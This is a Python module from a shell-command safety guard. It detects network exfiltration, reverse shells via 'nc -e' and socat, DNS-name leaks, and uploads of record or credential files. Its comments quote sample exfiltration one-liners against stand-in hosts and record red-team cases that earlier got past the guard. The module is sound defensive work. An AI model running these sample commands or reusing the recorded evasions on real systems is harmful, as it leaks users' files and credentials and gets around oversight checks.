"""Where data goes: network tools, uploads and DNS leaks, and pipelines that feed a download or decoded
text into a shell or send local data to the network.

Called by ``safety.commands``; findings use the policy's categories.
"""

from __future__ import annotations

import itertools
import posixpath
import re
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

from macrohard.safety import curlargs, lazyre, runners, spliced
from macrohard.safety import rules_data as R
from macrohard.safety.argv import decodes, effective_program, runs_stdin
from macrohard.safety.shellparse import SimpleCommand

if TYPE_CHECKING:
    from macrohard.safety.commands import Analyzer


_SPREADERS = frozenset({"xargs", "parallel"})
_SENDS = R.DOWNLOADERS | R.NETWORK_TOOLS


# substitutions whose output holds no local data: the time, a fresh id, the commit checked out, the machine's kind
_CLEAN = lazyre.compile(r"\$\((?:date(?: (?:\+[\w%:.,/-]+|'\+[^'$`]*'|\"\+[^\"$`]*\"|-u|--utc|-R|-I\w*|"
                    r"--iso-8601(?:=\w+)?|--rfc-3339=\w+))*|uuidgen|git rev-parse(?: --short)? HEAD|"
                    r"git describe(?: --tags| --always| --dirty)*|uname(?: -[a-z]+)?|nproc|arch)\)")


_ANY_URL = lazyre.compile(r"[a-zA-Z][\w+.-]*://")
# a substitution that only echoes literal words: its output is those words (test_confinement51's twin `-X "$(echo GET)"`)
_ECHOED = lazyre.compile(r"\$\(\s*(?:echo|printf)(?:\s+(?:'[^'$`\\]*'|\"[^\"$`\\]*\"|[^\s$`'\"();|&<>\\]+))*\s*\)")


def _is_dynamic(word: str) -> bool:
    return "$" in word or "`" in word


def _computed(word: str, clean: re.Pattern[str] | None) -> bool:
    """Whether a word holds a value only known when it runs, other than one of ``_CLEAN``'s (``-d "$(date)"``)."""
    return _is_dynamic(clean.sub("", word)) if clean is not None and "$(" in word else _is_dynamic(word)


def clean_pattern(an: Analyzer) -> re.Pattern[str] | None:
    """``_CLEAN``, where ``date`` and the rest are the system's: the session has not put its own first (a function, a
    PATH directory)."""
    return None if an.path_dirs or {"date", "uuidgen", "git", "uname", "nproc", "arch"} & set(an.functions) else _CLEAN


def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: SimpleCommand) -> None:
    r = an.r
    clean = clean_pattern(an)
    for a in args:
        if m := R.URL.search(a):
            r.hosts.append(m.group("host"))
    if prog in R.FIREWALLS:  # rt49: `iptables -t nat … -j DNAT --to-destination far:80` was allowed outright
        r.add("privilege", f"{prog} changes the machine's packet filter and NAT rules")
        r.add("network", f"{prog} changes where the machine's connections go")
    if prog in R.NETWORK_TOOLS:
        r.add("network", f"{prog} opens network connections")
        for a in operands:
            if m := re.match(r"(?:[\w.-]+@)?([\w.-]+\.[\w.-]+|\d+\.\d+\.\d+\.\d+)(?::|$)", a):
                r.hosts.append(m.group(1))
        if prog in ("scp", "sftp", "rsync") and len(operands) >= 2 and ":" in operands[-1]:
            r.add("exfiltration", f"{prog} copies local files to another machine")
        if any(op in ("<", "<<<") for op, _ in cmd.redirects) and prog in ("nc", "ncat", "netcat", "socat", "telnet"):
            r.add("exfiltration", f"{prog} sends a file over the network")
        if prog in ("nc", "ncat", "netcat") and any(a in ("-e", "-c") for a in args):
            r.add("remote_code", f"{prog} -e hands a shell to the network (a reverse shell)")
        if prog == "socat" and any("exec:" in a.lower() or "system:" in a.lower() for a in args):
            r.add("remote_code", "socat hands a shell to the network")
    if prog in _HTTPIE:
        _httpie(an, prog, args, cmd)
    if prog in ("curl", "wget", "wget2"):
        upload = [a for a in args if a.startswith(R.UPLOAD_FLAGS)]
        data = [args[i + 1] for i, a in enumerate(args[:-1]) if a in R.UPLOAD_OPTS]
        data += [a.split("=", 1)[1] for a in upload if "=" in a]
        data += [a[2:] for a in args if re.match(r"-[dFT]\S", a)]
        # curl's --data-urlencode NAME@FILE sends FILE's content (rt48c: `--data-urlencode d@diary.txt` read as text)
        named = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--data-urlencode", "--url-query")]
        named += [a.split("=", 1)[1] for a in args if a.startswith("--url-query=")]  # `+@FILE`: not encoded
        if any(re.match(r"\+?[^=@]*@", d) for d in named) or \
                any(d.startswith("@") or "=@" in d or "<" in d[:1] for d in data) or "--upload-file" in args or \
                any(re.match(r"[^=]*=<", f) for f in _forms(args)) or \
                "-T" in args or "--post-file" in " ".join(args) or "--body-file" in " ".join(args):
            r.add("exfiltration", f"{prog} uploads a local file")
        if any(_computed(d, clean) for d in data) or any(_ANY_URL.search(a) and _computed(a, clean) and (
                "$(" in a or "`" in a) for a in args):  # rt53: `gopher://h/_$(cat f)` too; rt54: `` `cat f` ``
            r.add("exfiltration", f"{prog} sends data computed from the machine")
        _addresses(an, prog, args, operands, cmd)
        headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-H", "--header", "--proxy-header")]
        headers += [a.split("=", 1)[1] for a in args if a.startswith(("--header=", "--proxy-header="))]
        # rt53: a value read from a file when it runs (`read -r T < customers.csv`, `T=$(tail -1 customers.csv)`): its
        # text goes out in a header as `-H "X: $(cat …)"` would
        read = [re.compile(re.escape(raw) + r"(?!\w)") for refs in cmd.from_files.values() for raw in refs]

        def from_a_file(word: str) -> bool:
            return any(p.search(word) for p in read) or any(word in e for e in cmd.expanded) and bool(data_value(an, word))

        if any(h.startswith("@") or "`" in h or "$(" in h and _computed(h, clean) or "<(" in h or from_a_file(h)
               for h in headers):
            r.add("exfiltration", f"{prog} sends a local file or computed data in its headers")
        sent = [args[i + 1] for i, a in enumerate(args[:-1]) if a in R.SENT_VALUES[prog]]
        sent += [a.split("=", 1)[1] for a in args if a.startswith("--") and a.split("=", 1)[0] in R.SENT_VALUES[prog]
                 and "=" in a]
        unechoed = [_ECHOED.sub("", v) for v in sent]  # `-X "$(echo GET)"`: literal words, no local data
        if any("`" in v or "$(" in v and _computed(v, clean) or "<(" in v for v in unechoed) or \
                any(from_a_file(v) for v in sent):
            r.add("exfiltration", f"{prog} sends computed data as a header's or the request's value")
        files = [args[i + 1] for i, a in enumerate(args[:-1]) if a in R.SENT_FILES[prog]]
        files += [a.split("=", 1)[1] for a in args if a.startswith("--") and a.split("=", 1)[0] in R.SENT_FILES[prog]
                  and "=" in a]
        if any("=" not in f or not f.split("=", 1)[0].strip() or _is_dynamic(f) for f in files if f):
            r.add("dynamic", f"{prog} sends cookies or a login read from a file: what it sends is only known when it "
                             "runs")
        if prog == "curl" and any(a in ("-K", "--config") or a.startswith("--config=") or re.match(r"-[a-zA-Z]*K", a)
                                  for a in args):  # rt51: `curl -qK- < args.txt`, `-sK args.txt`
            r.add("dynamic", "curl reads its options from a file: what it sends, and where, is only known when it runs")
        if prog in ("wget", "wget2"):
            _wget_inputs(an, args, cmd)
        if prog == "curl" and any(a.lower().startswith("telnet://") for a in args):  # rt53: curl's telnet:// sends
            r.add("network", "curl telnet:// opens a raw connection that sends what it reads on its input")  # its stdin
            if any(op in ("<", "<<<") for op, _ in cmd.redirects) or cmd.heredoc:
                r.add("exfiltration", "curl telnet:// sends a file over the network")
        if prog in ("wget", "wget2") and any(a == "--config" or a.startswith("--config=") for a in args):  # rt53: `--config=wrc`
            # holding `post_file = notes.txt` uploaded it, approved (WGETRC=wrc was asked)
            r.add("dynamic", "wget reads its settings from a file: what it sends, and where, is only known when it runs")
    if prog in _SENDS and (fed := _fed_arguments(an, cmd)):
        r.add("exfiltration", f"{posixpath.basename(cmd.argv[0])} turns {fed} into {prog}'s arguments")
    if prog in ("dig", "nslookup", "host", "ping", "drill") and any("$(" in a or "`" in a for a in args):
        r.add("exfiltration", f"{prog} leaks data through DNS names")
    elif prog in _RESOLVERS and (ref := next((u for a in args if a in cmd.expanded and (u := data_value(an, a))),
                                             "")):  # rt54: `T=$(sed -n 2p f | tr , .); dig "$T.x.example"`; rt55: the
        # whole name (`nslookup -type=txt "$T"`: the name is the query) and an option's value (`ping -p "$P"`: the
        # pattern fills each packet)
        r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name or its packets")
    if prog in _CONTACTS:  # rt54: `git clone "http://h/$T"`, `pip download -i "http://h/$T"`, `xdg-open`…
        _addresses(an, prog, args, [], cmd)
    if (prog in _CONTACTS and (prog != "git" or _GIT_CONTACTS & set(operands[:2])) or prog in _RESOLVERS or
            prog in _CONFIGURED) and \
            not an.defining and (ref := _substituted_data(an, args, clean)):
        # rt63: `pip download -i "http://h/$(cat k)/simple"`, `npm view "x@$(cat k)"`, `git ls-remote "http://h/$(cat
        # k).git"`, `getent hosts "$(cat k).away"`: the registry's, the forge's or the resolver's request carries it
        r.add("exfiltration", f"{prog} sends the output of code that reads {ref}, in what it asks the network for")
    if (prog in _CONTACTS or prog in _CONFIGURED) and "config" in operands[:2] and not an.defining and (
            ref := next((r for a in args if (r := setting_data(an, a))), "")):
        # rt56: `pip config set global.index-url "http://h/$T"` (pip.conf), `npm config set`, `yarn config set`…:
        # the program's own settings file, read by every later run of it, holds the text it sends
        an.r.add("exfiltration", f"{prog} config keeps {ref} in its settings, which it sends (an index, a registry, "
                                 "a proxy, a header)")
    if prog == "git" and {"remote", "submodule"} & set(operands[:2]) and not an.defining and (
            ref := next((r for a in operands if (r := setting_data(an, a))), "")):  # rt56: `git remote add x "http://h/$T"`
        an.r.add("exfiltration", f"git keeps {ref} as a remote's address, which a later fetch or push asks for")
    if prog == "git":  # rt54: `git -c http.extraHeader="X: $(cat f)" ls-remote URL` sent the file's text
        headers = [args[i + 1] for i, a in enumerate(args[:-1]) if a == "-c" and
                   re.match(r"(?i)http\.(?:.*\.)?extraheader=", args[i + 1])]
        if any("$(" in h and _computed(h, clean) or "`" in h or data_value(an, h) for h in headers):
            r.add("exfiltration", "git sends computed data in a header (http.extraHeader)")
    if prog in ("mail", "sendmail", "mutt", "mailx"):
        r.add("exfiltration", f"{prog} sends mail")


# an expansion's name (`$T`, `${T:0:50}`, `${T[1]}`, `${!T}`: indirect), or a positional parameter
_EXPANSION = lazyre.compile(r"\$(?:\{(!?)([A-Za-z_]\w*|[0-9@*]+)|([A-Za-z_]\w*|[0-9@*]))")
_ANY_EXPANSION = lazyre.compile(r"\$(?:\{[^}]*\}|[A-Za-z_]\w*|[0-9@*#?$!-])")


# rt54: a data file by its kind: tables and records (csv, json lines, spreadsheets, databases, SQL dumps), contacts,
# calendars and mail. Its text leaving in an address, a header or a DNS name is the file sent, as `-d @FILE` is;
# a document's or code's text there is judged as before (flow18's twins: `d=$(cat README.md); curl "…?d=$d"` runs)
DATA_KIND = lazyre.compile(r"(?i)[\w.~+@%-]*\.(?:csv|tsv|psv|jsonl?|ndjson|xml|sql|sqlite3?|db|mdb|accdb|dbf|xlsx?|xlsm|"
                           r"ods|numbers|parquet|avro|orc|feather|arrow|h5|hdf5|vcf|ics|mbox|eml|ldif)"
                           # the lead (fifty-fourth wave, second read of rt54): a data file's backup, archive or numbered
                           # copy is the same rows (``customers.csv.bak``, ``.csv.gz``, ``.csv.1``,
                           # ``.csv~``); a host name is not one (``prod.db.internal``)
                           r"(?:\.(?:bak|bk|old|orig|backup|prev|save|saved|tmp|swp|copy|tar|gz|tgz|bz2|xz|zst|lz4|z|zip|7z|gpg|pgp|asc|"
                           r"age|enc|\d{1,3})){0,3}~?(?![\w.-])")


def names_data(text: str) -> str:
    """The first data file (``DATA_KIND``) a piece of shell text names, "" if none."""
    m = DATA_KIND.search(text)
    return m.group(0) if m else ""


# rt55: a file's text that has the shape of records, whatever its name says (rt54 left `cp customers.csv clients`,
# `.dat`, `.log`, a `.txt` holding rows, and a workspace file whose name says nothing, sent through a variable):
# lines that each hold the same number (one or more) of one delimiter, JSON lines, two e-mail addresses or more, a
# card number (13-19 digits that pass the Luhn check). A path list, an id list, a URL list or prose has none of these
_DELIMITERS = (",", "\t", ";", "|")
_EMAIL = lazyre.compile(r"[\w.+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}")
_CARD = lazyre.compile(r"(?<![\d])\d(?:[ -]?\d){12,18}(?![\d])")
_PATH_WORD = lazyre.compile(r"[^\s;&|<>()'\"`=,]+")
_CD = lazyre.compile(r"(?:^|[;&|(]|\bthen|\bdo)\s*cd\s+([^\s;&|()]+)")
_PLACE = (r"[;&|({`]|\$\(|\b(?:do|then|else|elif|if|while|until|time|exec|command|builtin|nice|nohup|env|sudo|"
          r"timeout\s+\S+|xargs)|!)\s*(?:[A-Za-z_]\w*=[^\s(]*\s+)*$")
_COMMAND_PLACE = lazyre.compile(r"(?:^|" + _PLACE)
_COMMAND_PLACE_LATE = lazyre.compile(r"(?:" + _PLACE)  # the last 200 characters of a longer line: no start in it
_SHAPES: dict[tuple[str, int, int], bool] = {}  # (path, mtime, size) -> records


def _luhn(digits: str) -> bool:
    total = 0
    for i, c in enumerate(reversed(digits)):
        n = int(c) * (2 if i % 2 else 1)
        total += n - 9 if n > 9 else n
    return total % 10 == 0


_GAP = lazyre.compile(r" {2,}")


def _fixed_width(lines: list[str]) -> bool:
    """rt56: a fixed-width table (``name    card`` over ``alice   SECRET-…``): lines that do not start indented, each
    split by runs of two spaces or more into the same number (two or more) of fields, whose columns start (or end:
    numbers are right-aligned) where the first line's do, on 80 % of the lines. Prose, code and lists are not."""
    def columns(line: str) -> tuple[tuple[int, ...], tuple[int, ...]]:
        gaps = list(_GAP.finditer(line.rstrip()))
        return tuple(g.end() for g in gaps), tuple(g.start() for g in gaps)

    if lines[0][:1].isspace():
        return False
    starts, ends = columns(lines[0])
    if not starts:
        return False
    same = [columns(line) for line in lines if not line[:1].isspace()]
    need = max(2, 0.8 * len(lines))
    return sum(len(s) == len(starts) and (s == starts or e == ends) for s, e in same) >= need and \
        sum(len(s) == len(starts) for s, _ in same) >= need


_PHONE = lazyre.compile(r"\+?[\d ().-]+")
_SSN = lazyre.compile(r"\d{3}-\d{2}-\d{4}")
_MIXED = lazyre.compile(r"(?<=[A-Za-z])(?=\d)|(?<=\d)(?=[A-Za-z])")


def _personal(field: str) -> bool:
    """rt57: a field that is a person's or a secret value: an e-mail address, a phone number (10-15 digits with a
    ``+`` or separators: no timestamp, no date), an SSN's shape, or a token (6+ characters, no space, letters and
    digits alternating three times or more: a key, a password, an id — not ``x86_64``, ``python3.11``, ``utf-8``).
    A setting (``key=value``) is none."""
    value = field.strip().strip("\"'")
    if "=" in value or not value:
        return False
    if _EMAIL.fullmatch(value) or _SSN.fullmatch(value):
        return True
    if _PHONE.fullmatch(value) and 10 <= sum(c.isdigit() for c in value) <= 15 and (
            value.startswith("+") or any(c in value for c in " ().-")):
        return True
    return _token(value)


def _one_record(line: str) -> bool:
    """rt57 (rt56 left open): a file of ONE line is a record when a delimiter splits it into two or more fields, one
    of them ``_personal`` (``alice,SECRET-7f3a9c``, ``ada@x.com;+44 20 7946 0958``). A version, a header of names,
    a list of words (``one, two``) or of settings (``timeout=30,retries=3``) has no such field."""
    for d in _DELIMITERS:
        fields = [f for f in line.split(d) if f.strip()]
        if len(fields) >= 2 and any(_personal(f) for f in fields):
            return True
    return False


def _token(value: str) -> bool:
    """``_personal``'s token: 6+ characters, no space, letters and digits alternating three times or more."""
    return len(value) >= 6 and " " not in value and len(_MIXED.findall(value)) >= 3


# a settings line: a comment, a section, `key = value`, `key: value`, `export KEY=value`, a YAML list's item or a
# document marker (docker-compose.yml, a kubeconfig)
_SETTING_LINE = lazyre.compile(r"\s*(?:[#;]|//|\[[^\]]*\]\s*$|(?:export\s+)?[\w.-]+\s*[:=]|\"[\w.-]+\"\s*:|-\s|-$|---|\.\.\.)")
# the forms of `secrets.find_secrets` that are a key's own format (a prefix, a header, a block); the others are a
# name beside a value and need the file to be settings (source code and prose name passwords too)
_ASSIGNED = frozenset({"assigned_secret", "url_password", "bearer_token"})


_NETRC = lazyre.compile(r"\s*(?:machine\s+\S+|default)\b.*\s(?:password|passwd|account)\s+\S{4,}")  # a .netrc's entry


_CREDENTIAL_MAX = 16384  # a credential's file is small (a key, a .env, an ini, a kubeconfig); a larger text is not one
# what every pattern of ``secrets.find_secrets`` needs in a text (most files have none: one search, not twenty)
_HINT_WORDS = ("-----begin", "akia", "asia", "agpa", "aida", "aroa", "anpa", "ghp_", "gho_", "ghu_", "ghs_", "ghr_",
               "github_pat_", "glpat-", "sk-", "xai-", "xox", "rk_live", "rk_test", "sk_live", "sk_test", "aiza", "hf_",
               "npm_", "pypi-", "sg.", "eyj", "hooks.slack", "passw", "pwd", "secret", "token", "api_key", "api-key",
               "apikey", "access_key", "access-key", "accesskey", "private_key", "private-key", "privatekey",
               "authorization")  # (not Twilio's `SK` and 32 hex digits: "sk" is in most texts)
_SECRET_HINT = lazyre.compile("|".join(re.escape(w) for w in _HINT_WORDS) + r"|://[^/\s:@]+:[^/\s@]+@")


def credential_text(text: str) -> bool:
    """rt58 (rt57 left open): whether ``text`` is a credential whatever its file is called: it holds a key in a
    key's own format (``secrets.find_secrets``: ``sk-…``, ``ghp_…``, ``AKIA…``, a private key block, a JWT), or it
    is settings (every line ``key = value``, a section or a comment: a ``.env``, an ini, a flat YAML) naming a
    secret (``token=abc1d2e3f4``, ``password = …``), or its whole text is ONE value with the shape of a token
    (``7f3a9c2b8e1d``, ``SECRET-7f3a9c``; ``KEY=value`` on its one line judged by its value). A version, a name, a
    path, a URL, a list of words or a plain password (``hunter2``) is none of these."""
    from macrohard.safety.secrets import find_secrets

    if len(text) > _CREDENTIAL_MAX and len(text := text.strip()) > _CREDENTIAL_MAX:  # (blank padding is no text)
        return False
    lines = [line for line in text.splitlines()[:200] if line.strip()]
    if not lines:
        return False
    hinted: dict[int, str] = {}  # the lines a secret's pattern may match (most texts have none)
    low = text.lower()  # (the hint's words lowercased: one pass of a few substring searches first)
    for m in _SECRET_HINT.finditer(low) if any(w in low for w in _HINT_WORDS) or "://" in low and "@" in low else ():
        start = text.rfind("\n", 0, m.start()) + 1
        if start not in hinted:
            end = text.find("\n", m.end())
            hinted[start] = text[start:end if end >= 0 else len(text)]
            if len(hinted) >= 64:
                break
    spans = find_secrets("\n".join(hinted.values())) if hinted else []
    if any(kind not in _ASSIGNED for kind, _, _ in spans):
        return True
    if spans and all(_SETTING_LINE.match(line) for line in lines) or any(_NETRC.match(line) for line in hinted.values()):
        return True
    if len(lines) == 1:
        value = re.sub(r"\s+#.*$", "", lines[0]).strip()  # (`7f3a9c2b8e1d # the prod key`)
        if (m := re.fullmatch(r"(?:export\s+)?[A-Za-z_][\w.-]*\s*[:=]\s*(\S.*)", value)) is not None:
            value = m.group(1).strip()
        value = value.strip("\"'")
        return "://" not in value and _token(value)
    return False


def credential_file(path: str) -> bool:
    """rt58: whether the regular file at ``path`` (its first 64 kB, text) is a credential (``credential_text``)."""
    import os

    from macrohard.safety import native

    if not os.path.isfile(path):
        return False
    from macrohard.safety.secret_files import secret_named

    data = native.read(path, 65536)
    if data is None or b"\0" in data:
        return False
    text = data.decode("utf-8", "replace")
    return credential_text(text) or secret_named(path, text)  # rt61: `pw` holding `hunter2`


NAMED_WORD = lazyre.compile(r"[\w.+~-][\w./+~-]*")


def credential_named(text: str, base: str, skip: Callable[[str], bool] = lambda _w: False) -> str:
    """The first of the first 64 distinct words of ``text`` (a shell line, or a part of one) that names a credential
    file (``credential_file``) from the folder ``base``, ``skip`` passing over some words; or "" (rt62)."""
    import os

    for word in list(dict.fromkeys(NAMED_WORD.findall(text)))[:64]:
        path = os.path.normpath(os.path.join(base, word))
        if not skip(word) and os.path.isfile(path) and credential_file(path):
            return word
    return ""


def records_text(text: str, credential: bool = True) -> bool:
    """Whether ``text`` has the shape of records (``_DELIMITERS``' rows, JSON lines, e-mail addresses, a card
    number, one line of fields one of which is personal) or of a credential (``credential_text``, unless not
    ``credential``): a data file's text, whatever its file is called."""
    lines = [line for line in text.splitlines()[:200] if line.strip()]
    if len(lines) == 1 and _one_record(lines[0]):
        return True
    if len(lines) >= 2:
        for d in _DELIMITERS:
            first = lines[0].count(d)
            if first and sum(line.count(d) == first for line in lines) >= max(2, 0.8 * len(lines)):
                return True
        if sum(line.lstrip().startswith("{") and line.rstrip().endswith("}") for line in lines) >= 2:
            return True
        if _fixed_width(lines):
            return True
    if len(set(_EMAIL.findall(text))) >= 2:
        return True
    return any(_luhn(re.sub(r"\D", "", m)) for m in _CARD.findall(text)) or credential and credential_text(text)


def _named_private(path: str) -> bool:
    """A path the shipped policy's ``private_paths`` name (``.env``, ``*secret*``, ``*.key``…): ``safety.carried``
    follows what reads it (``[ -f .env ]`` reads nothing), so its credential is no data file's text here."""
    global _PRIVATE_GLOBS
    if _PRIVATE_GLOBS is None:
        from macrohard.safety.carried import globs
        from macrohard.safety.policy import Flow

        _PRIVATE_GLOBS = globs(Flow().private_paths) or re.compile(r"(?!)")
    return bool(_PRIVATE_GLOBS.match(path))


_PRIVATE_GLOBS: re.Pattern[str] | None = None


# a database's or a table's own format, whatever the file is called: SQLite, Parquet, Avro, Arrow, HDF5, OLE2 (xls,
# mdb)
_DATA_MAGIC = (b"SQLite format 3\0", b"PAR1", b"Obj\x01", b"ARROW1", b"\x89HDF\r\n", b"\xd0\xcf\x11\xe0")


def _json_records(data: bytes) -> bool:
    """Whether ``data`` is a JSON object or array (what a ``.json`` file is, named or not)."""
    import json

    if data.lstrip()[:1] not in (b"{", b"["):
        return False
    if len(data) > 65536:  # its first 64 kB: keys and their values
        return len(re.findall(rb'"[^"\n]{1,64}"\s*:', data[:65536])) >= 2
    try:
        return isinstance(json.loads(data), (dict, list))
    except ValueError:
        return False


def records_file(path: str) -> bool:
    """Whether the regular file at ``path`` (absolute; its first 64 kB) holds records (``records_text``)."""
    import os

    from macrohard.safety import native
    from macrohard.safety.secret_files import secret_named

    try:
        st = os.stat(path)
    except OSError:
        return False
    if not os.path.isfile(path):
        return False
    key = (path, st.st_mtime_ns, st.st_size)
    if (known := _SHAPES.get(key)) is not None:
        return known
    data = native.read(path, 65537)
    if data is not None and data.startswith(_COMPRESSED):  # rt56: `zcat backup` of a csv.gz with no extension
        data = _unpacked(data)
    known = data is not None and (data.startswith(_DATA_MAGIC) or b"\0" not in data[:65536] and (
        records_text(text := data[:65536].decode("utf-8", "replace"), not _named_private(path)) or _json_records(data)
        or not _named_private(path) and secret_named(path, text)) or  # rt61: `pw`: `hunter2`
        data.startswith(b"PK\x03\x04") and _spreadsheet(path) or data[257:262] == b"ustar" and _tar_data(data))
    # the answer is returned from here, not read back from the cache: rel58, the cache was emptied after the
    # 4,097th file's entry went in and `return _SHAPES[key]` raised KeyError, so that review refused `cat notes.txt`
    # as "guard:error" (test_flow_control's rule-of-two in the fifty-sixth wave's fresh-clone suite)
    if len(_SHAPES) >= 4096:
        _SHAPES.clear()
    _SHAPES[key] = known
    return known


_COMPRESSED = (b"\x1f\x8b", b"BZh", b"\xfd7zXZ\0")


def _unpacked(data: bytes) -> bytes:
    """The first 64 kB a gzip, bzip2 or xz stream's head unpacks to (as much as its first 64 kB give)."""
    import bz2
    import lzma
    import zlib

    try:
        if data.startswith(b"\x1f\x8b"):
            return zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(data, 65537)
        if data.startswith(b"BZh"):
            return bz2.BZ2Decompressor().decompress(data, 65537)
        return lzma.LZMADecompressor().decompress(data, 65537)
    except (OSError, EOFError, ValueError, zlib.error, lzma.LZMAError):
        return b""


def _tar_data(data: bytes) -> bool:
    """rt56: a tar archive (its first 64 kB) whose members are data files (``DATA_KIND``) or hold records."""
    at = 0
    while at + 512 <= len(data) and data[at + 257:at + 262] == b"ustar":
        name = data[at:at + 100].split(b"\0", 1)[0].decode("utf-8", "replace")
        try:
            size = int(data[at + 124:at + 136].strip(b"\0 ") or b"0", 8)
        except ValueError:
            return False
        if DATA_KIND.fullmatch(name.rsplit("/", 1)[-1]) or \
                records_text(data[at + 512:at + 512 + min(size, 65536)].decode("utf-8", "replace")):
            return True
        at += 512 + (size + 511) // 512 * 512
    return False


def _spreadsheet(path: str) -> bool:
    """rt56: a zip that is a spreadsheet (xlsx's ``xl/``, an OpenDocument spreadsheet's ``mimetype``) or holds a data
    file (``DATA_KIND`` but .xml: ``export.zip`` of ``customers.csv``), whatever the file is called (``book``,
    ``book.txt``)."""
    import zipfile

    from macrohard.safety.regular import open_regular

    try:
        with open_regular(path, "rb") as fh, zipfile.ZipFile(fh) as z:
            names = z.namelist()[:10000]
            if any(n.startswith("xl/") or DATA_KIND.fullmatch(n.rsplit("/", 1)[-1]) and not n.lower().endswith(
                    ".xml") for n in names):  # (a document's own parts are .xml: docx, odt, epub are not data)
                return True
            return "mimetype" in names and b"spreadsheet" in z.read("mimetype")[:200]
    except (OSError, zipfile.BadZipFile, KeyError, ValueError, RuntimeError, EOFError):
        return False


_PROC_CWD = lazyre.compile(r"^/+proc/+(?:self|thread-self|\$\$|\$BASHPID|\d+|\*)(?:/+task/+[^/]+)?/+cwd(?=/|$)")
_PROC_ROOT = lazyre.compile(r"^/+proc/+(?:self|thread-self|\$\$|\$BASHPID|\d+|\*)(?:/+task/+[^/]+)?/+root/+")
_BRACES = lazyre.compile(r"\{([^{}\s$]*,[^{}\s$]*)\}")


def _parsed_words(an: Analyzer, text: str) -> list[str]:
    """rt56: the words of a line as bash reads them (quotes and backslashes gone: ``"cli""ents"``, ``cli''ents``,
    ``cl\\ients``, ``$'cli\\x65nts'``; a brace list expanded: ``cli{e,x}nts``), each command's but its program's
    name, and its redirects' targets. ``named_records`` read the line's text only, where such a name is pieces. Once
    per line and text."""
    from macrohard.safety.shellparse import parse

    memo = an.__dict__.setdefault("parsed_words_memo", {})
    if text not in memo:
        try:
            commands = parse(text).commands
        except Exception:  # noqa: BLE001 - a line the parser cannot read: the other checks judge it
            commands = []
        remember_words(an, text, commands)
    return memo[text]


def remember_words(an: Analyzer, text: str, commands: list[SimpleCommand]) -> None:
    """``_parsed_words`` of ``text`` from its parse (the analyzer's own, for the session's line: parsed once)."""
    memo = an.__dict__.setdefault("parsed_words_memo", {})
    if len(memo) > 64:
        memo.clear()
    words: list[str] = []
    for cmd in commands:
        for word in [*cmd.argv[1:], *(t for _, t in cmd.redirects)]:
            if len(words) > 4096:
                break
            if (m := _BRACES.search(word)) and m.group(1).count(",") < 32:
                words += [word[:m.start()] + alt + word[m.end():] for alt in m.group(1).split(",")]
            words.append(word)
            if "://" not in word and (":" in word or "=" in word):  # `git show HEAD:clients`, `--input=clients`
                words.append(re.split(r"[:=]", word, maxsplit=1)[1])
    memo[text] = words
    an.__dict__.setdefault("parsed_cwds_memo", {})[text] = list(dict.fromkeys(c.cwd for c in commands if c.cwd))


def named_records(an: Analyzer, text: str, code: bool = False) -> str:
    """The first workspace file a line's words name (a glob's matches, a word whose expansions are only known when it
    runs read as ``*`` beside its literal text: ``customers.$e``) that holds records (``records_file``); "" if none."""
    import glob
    import os

    if not an.paths.workspaces:
        return ""
    cwd = an.__dict__.get("top_cwd")
    bases = [an.paths.resolve(".", cwd)] + [an.paths.resolve(d, cwd) for d in _CD.findall(text) if "$" not in d]
    _parsed_words(an, text)  # rt56: and each folder the parse followed the line to (`pushd sub`, `CDPATH=. cd sub`,
    for folder in an.__dict__.get("parsed_cwds_memo", {}).get(text, [])[:16]:  # `builtin cd`); one only known when
        if "$" in folder or "`" in folder:  # it runs (`cd "$(ls -d s*)"`) is any folder there
            where = an.paths.resolve(re.sub(r"\$\([^)]*\)|\$\{?\w+\}?|`[^`]*`", "*", folder), cwd)
            bases += [d for d in sorted(glob.glob(where))[:32] if os.path.isdir(d)]
        else:
            bases.append(an.paths.resolve(folder, cwd))
    seen: set[str] = set()
    globs = 0

    def raw_words() -> Iterator[str]:
        for m in _PATH_WORD.finditer(text):
            before = text[:m.start()]  # (a program's name: `export`, `sed`, is no file it reads)
            if not (_COMMAND_PLACE if len(before) <= 200 else _COMMAND_PLACE_LATE).search(before[-200:]):
                yield m.group(0)

    here = an.paths.resolve(".", cwd)
    for word in itertools.chain(raw_words(), _parsed_words(an, text)):
        if word.lower().startswith("file:"):  # rt56: `curl -s file:///ws/clients` reads the file
            word = re.sub(r"(?i)^file:(?://(?:localhost|127\.0\.0\.1)?(?=[/$]))?", "", word)
        if "://" in word or word.startswith("-") or word in seen:
            continue
        seen.add(word)
        if names_data(word):
            return f"{word[:60]}"
        pattern = _ANY_EXPANSION.sub(lambda e: an.line_vars.get(e.group(0).strip("${}"), here if e.group(0).strip(
            "${}") == "PWD" else "*"), word) if "$" in word else word  # rt56: `"$PWD/clients"`, `file://$PWD/…`
        if pattern.startswith("/"):  # rt56: `/proc/self/cwd/clients` is the shell's folder's; `/tmp/../ws/clients`
            pattern = _PROC_ROOT.sub("/", _PROC_CWD.sub(here.replace("\\", "\\\\"), pattern))
            pattern = os.path.normpath(pattern) if any(c in pattern for c in "*?[") else os.path.realpath(pattern)
        if not pattern.strip("*/.~") or pattern.startswith("~") or pattern.startswith("/") and not any(
                pattern == ws or pattern.startswith(ws + "/") for ws in an.paths.workspaces):
            if _scratch_records(an, pattern):  # rt58: a scratch file the run wrote, holding records
                return f"{word[:60]} (written during the run; its text has the shape of records or a credential)"
            continue  # nothing but a glob, or outside the workspace
        if any(c in pattern for c in "*?["):
            globs += 1
            if globs > 64 and code:  # code the line runs (`x[0]`, `a*b` in python are no globs): past 64, not read
                continue
            if globs > 64:  # a line of many globs: the guard does not read every match (linear time)
                return f"{word[:60]} (more globs than the guard reads)"
        wheres = [pattern] if pattern.startswith("/") else [os.path.join(b, pattern) for b in dict.fromkeys(bases)]
        found = [f for w in wheres for f in (sorted(glob.glob(w))[:32] if any(c in pattern for c in "*?[") else [w])]
        for path in found:
            real = os.path.realpath(path)
            if any(real == ws or real.startswith(ws + "/") for ws in an.paths.workspaces) and records_file(real):
                return f"{word[:60]} (its text has the shape of records or a credential)"
    return ""


_SCRATCH = ("/tmp/", "/var/tmp/", "/dev/shm/")


